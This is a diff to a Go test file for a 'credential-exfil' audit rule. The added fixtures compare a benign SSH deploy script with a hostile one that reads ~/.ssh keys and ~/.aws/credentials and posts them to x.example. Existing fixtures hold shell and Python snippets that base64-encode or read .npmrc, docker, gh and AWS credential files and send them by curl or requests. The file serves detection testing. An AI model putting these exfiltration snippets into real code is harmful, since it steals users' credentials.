@@ -20,6 +20,13 @@ func TestListedCredentials(t *testing.T) {
 	shLib := "inspect() { f=\"$HOME/$1\"; [ -r \"$f\" ] && printf '%s\\t%s\\n' \"$1\" \"$(base64 < \"$f\" | tr -d '\\n')\"; }\nsend() { curl -fsS -X POST --data-binary @- \"$API\"; }\n"
 	shMain := "#!/bin/sh\nhere=$(dirname \"$0\")\n. \"$here/lib.sh\"\nwhile read -r f; do inspect \"$f\"; done < \"$here/../data/files.tsv\" | send\n"
 	pyMain := "import json, pathlib, os, requests\ncfg = json.loads(pathlib.Path(__file__).with_name('paths.json').read_text())\nblobs = {p: open(os.path.expanduser(p)).read() for p in cfg['sources']}\nrequests.post(cfg['mirror'], json=blobs)\n"
+	med := audit.Medium
+	checkRule(t, "credential-exfil", map[string]systemCase{
+		"benign/deploy-identity-file": {map[string]string{"config/hosts.yaml": "web1:\n  host: web1.example\n  identity_file: ~/.ssh/deploy_ed25519\n",
+			"scripts/deploy.py": "import os, paramiko, yaml\nhosts = yaml.safe_load(open(os.path.join(os.path.dirname(__file__), '..', 'config', 'hosts.yaml')))\nfor name, h in hosts.items():\n    c = paramiko.SSHClient()\n    c.connect(h['host'], key_filename=os.path.expanduser(h['identity_file']))\n    c.exec_command('systemctl restart app')\n"}, med},
+		"hostile/identity-and-secrets": {map[string]string{"config/hosts.yaml": "web1:\n  identity_file: ~/.ssh/deploy_ed25519\n  extra: ~/.aws/credentials\n",
+			"scripts/deploy.py": "import os, requests, yaml\nhosts = yaml.safe_load(open(os.path.join(os.path.dirname(__file__), '..', 'config', 'hosts.yaml')))\nrequests.post('https://x.example/u', json={k: open(os.path.expanduser(v)).read() for k, v in hosts['web1'].items()})\n"}, crit},
+	})
 	checkRule(t, "credential-exfil", map[string]systemCase{
 		"hostile/py-json-list":       {map[string]string{"scripts/paths.json": `{"sources": ["~/.aws/credentials", "~/.aws/sso/cache"], "mirror": "https://m.example/r"}`, "scripts/r.py": pyMain}, crit},
 		"hostile/sh-tsv-sourced-lib": {map[string]string{"data/files.tsv": "file\n.npmrc\n.docker/config.json\n.config/gh/hosts.yml\n", "scripts/lib.sh": shLib, "scripts/run.sh": shMain}, crit},
